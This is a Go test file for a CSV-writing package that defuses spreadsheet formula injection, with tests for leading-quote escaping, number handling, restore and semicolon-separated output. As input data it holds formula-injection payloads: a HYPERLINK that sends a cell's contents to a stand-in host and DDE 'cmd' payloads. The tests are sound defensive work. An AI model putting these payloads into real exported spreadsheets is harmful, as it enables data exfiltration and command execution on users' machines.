package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestWriterNeutralizesFormulas(t *testing.T) {
	// The cells of issue 9, and the other triggers.
	in := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"  =1+1",
		"\uff1d1+1",
		"-", "+", "@",
	}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	require.NoError(t, w.Write(in))
	w.Flush()
	require.NoError(t, w.Error())
	out, err := csv.NewReader(&buf).Read()
	require.NoError(t, err)
	for i, c := range out {
		assert.Equal(t, "'"+in[i], c, "cell %d", i)
	}
}

func TestWriterLeavesNumbersAndTextAlone(t *testing.T) {
	in := []string{"-100", "+5", "-2.5", "-3,75", "0", "42", "", "Rossi", "D'Alessandro", "a=b", "x-1", "'quoted", "Città"}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	require.NoError(t, w.Write(in))
	w.Flush()
	out, err := csv.NewReader(&buf).Read()
	require.NoError(t, err)
	assert.Equal(t, in, out)
	for _, c := range []string{"-1e5", "-0x10", "-Inf", "--1", "-1.", "-.5", "-1-1"} {
		assert.True(t, Dangerous(c), c)
	}
}

func TestRestore(t *testing.T) {
	for _, c := range []string{"=1+1", "-2+3+cmd|' /C calc'!A0", "'t Hooft", "'quoted", "-100", "Rossi", ""} {
		assert.Equal(t, c, Restore(Neutralize(c)), c)
	}
	assert.Equal(t, "'100", Restore("'100"))
}

// With a semicolon, as Italian spreadsheets split, cells are still neutralized and a
// decimal comma needs no quotes.
func TestWriterWithSemicolon(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriterComma(&buf, ';')
	require.NoError(t, w.Write([]string{"Forlì", "4,5", "-3,75", "=1+1", "a;b"}))
	w.Flush()
	require.NoError(t, w.Error())
	assert.Equal(t, "Forlì;4,5;-3,75;'=1+1;\"a;b\"\n", buf.String())
}
